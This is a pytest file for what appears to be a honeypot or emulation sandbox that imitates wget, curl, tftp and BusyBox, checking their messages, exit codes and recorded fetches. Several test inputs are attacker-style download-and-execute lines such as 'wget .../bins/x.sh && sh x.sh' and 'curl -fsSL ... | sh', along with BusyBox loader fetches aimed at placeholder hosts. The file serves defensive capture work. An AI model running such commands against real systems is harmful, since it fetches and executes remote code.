"""wget, curl, tftp and their BusyBox kin: what they say, what they save, what they ask for."""

from __future__ import annotations

import re

import pytest
from tests.machine.programs.support import Box, reply

from urltrap.model.capture import FetchRequest, Hop

PAYLOAD = b"#!/bin/sh\necho hello\n"


def serving(body: bytes = PAYLOAD):  # type: ignore[no-untyped-def]
    def network(request: FetchRequest):  # type: ignore[no-untyped-def]
        return reply(request, body)

    return network


def test_wget_tells_the_whole_story_and_saves_the_file() -> None:
    box = Box(network=serving())
    result = box.run("cd /tmp && wget http://198.51.100.9/bins/x.sh && sh x.sh")
    assert result.status == 0
    assert result.out == b"hello\n"
    told = re.sub(rb"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", b"TIME", result.err).decode()
    assert told.startswith(
        "--TIME--  http://198.51.100.9/bins/x.sh\nConnecting to 198.51.100.9:80... connected.\n"
    )
    assert "HTTP request sent, awaiting response... 200 OK\nLength: 21 [text/plain]\nSaving to: " in told
    assert told.endswith("saved [21/21]\n\n")
    assert [request.user_agent for request in result.requests] == [b"Wget/1.21.3"]


def test_wget_follows_redirects_in_words() -> None:
    def network(request: FetchRequest):  # type: ignore[no-untyped-def]
        hops = [
            Hop(url="http://198.51.100.9/a", status=302, location=b"http://198.51.100.9/b"),
            Hop(url="http://198.51.100.9/b", status=200),
        ]
        return reply(request, PAYLOAD, hops=hops)

    result = Box(network=network).run("wget -O- http://198.51.100.9/a")
    assert result.out == PAYLOAD
    assert b"302 Found\nLocation: http://198.51.100.9/b [following]\n" in result.err


@pytest.mark.parametrize(
    ("line", "status"),
    [
        ("wget http://198.51.100.9/x", 8),
        ("curl -f http://198.51.100.9/x", 22),
        ("curl http://198.51.100.9/x", 0),
        ("busybox wget http://198.51.100.9/x", 1),
    ],
)
def test_an_http_error_gives_the_exit_status_of_the_real_program(line: str, status: int) -> None:
    box = Box(network=lambda request: reply(request, b"gone", status=404, reason=b"Not Found"))
    assert box.run(line).status == status


@pytest.mark.parametrize(
    ("line", "status", "words"),
    [
        ("wget http://no.example/x", 4, b"unable to resolve host address"),
        ("curl -sS http://no.example/x", 6, b"curl: (6) Could not resolve host: no.example\n"),
        ("busybox wget http://no.example/x", 1, b"wget: bad address 'no.example'\n"),
        ("busybox wget http://http://198.51.100.9/x", 1, b"wget: bad port ''\n"),
        ("busybox wget http://a:99999999/x", 1, b"wget: bad port '99999999'\n"),
    ],
)
def test_a_name_that_does_not_resolve(line: str, status: int, words: bytes) -> None:
    box = Box(network=lambda request: reply(request, outcome="dns-failure"))
    result = box.run(line)
    assert (result.status, words in result.err) == (status, True)


@pytest.mark.parametrize("outcome", ["recorded", "withheld", "refused-address", "limited"])
@pytest.mark.parametrize(
    "line", ["wget http://192.0.2.1/x", "curl http://192.0.2.1/x", "busybox tftp -g -r x 192.0.2.1"]
)
def test_what_was_not_sent_looks_like_a_network_that_fails_within_seconds(outcome: str, line: str) -> None:
    box = Box(network=lambda request: reply(request, outcome=outcome))  # type: ignore[arg-type]
    result = box.run(line)
    assert result.status != 0
    assert 2 < result.seconds < 5
    assert len(result.requests) == 1


def test_curl_saves_prints_and_measures() -> None:
    box = Box(network=serving())
    assert box.run("cd /tmp; curl -fsSL http://198.51.100.9/a | sh").out == b"hello\n"
    assert box.run("cd /tmp; curl -sO http://198.51.100.9/dir/a.sh; cat a.sh").out == PAYLOAD
    assert box.run("curl -s -o /dev/null -w '%{http_code}' http://198.51.100.9/a").out == b"200"
    assert b"  % Total    % Received % Xferd" in box.run("curl -o /tmp/b http://198.51.100.9/a").err


def test_every_url_of_a_command_is_asked_for() -> None:
    box = Box(network=serving())
    line = (
        "cd /tmp; wget -q http://192.0.2.1/{a,b} -i - <<< http://192.0.2.1/c; curl -s http://192.0.2.1/[1-3]"
    )
    asked = [request.url for request in box.run(line).requests]
    assert asked == [b"http://192.0.2.1/" + each for each in (b"a", b"b", b"c", b"1", b"2", b"3")]


def test_a_background_wget_goes_on() -> None:
    box = Box(network=serving())
    result = box.run(
        "cd /tmp; wget -b http://192.0.2.1/a; sleep 1; cat a; cat wget-log | head -n 2 | tail -n 1"
    )
    assert re.match(
        rb"Continuing in background, pid \d+\.\nOutput will be written to \S+wget-log", result.out
    )
    assert PAYLOAD in result.out


def test_loaders_get_their_file_by_tftp_and_ftp() -> None:
    box = Box(network=serving())
    result = box.run(
        "cd /tmp; busybox tftp -g -l mine -r dir/x 192.0.2.1; busybox ftpget -u a -p b 192.0.2.1 y z; cat mine y"
    )
    assert result.out == PAYLOAD * 2
    assert [request.url for request in result.requests] == [b"tftp://192.0.2.1/dir/x", b"ftp://192.0.2.1/z"]
    assert result.requests[1].username == b"a"


def test_wrong_options_get_the_real_complaints() -> None:
    box = Box()
    assert box.run("wget").err.startswith(b"wget: missing URL\nUsage: wget [OPTION]... [URL]...\n")
    assert box.run("wget -y").status == 2
    assert box.run("curl").err == b"curl: try 'curl --help' or 'curl --manual' for more information\n"
    assert box.run("curl --bogus").err.startswith(b"curl: option --bogus: is unknown\n")
    assert box.run("curl foo://x").status == 1


def test_busybox_knows_its_applets() -> None:
    box = Box()
    result = box.run("/bin/busybox ECCHI")
    assert (result.status, result.err) == (127, b"ECCHI: applet not found\n")
    result = box.run("/bin/busybox wget; /bin/busybox tftp")
    assert result.err.count(b"multi-call binary.\n\nUsage: ") == 2
    assert box.run("busybox").out.startswith(b"BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1")
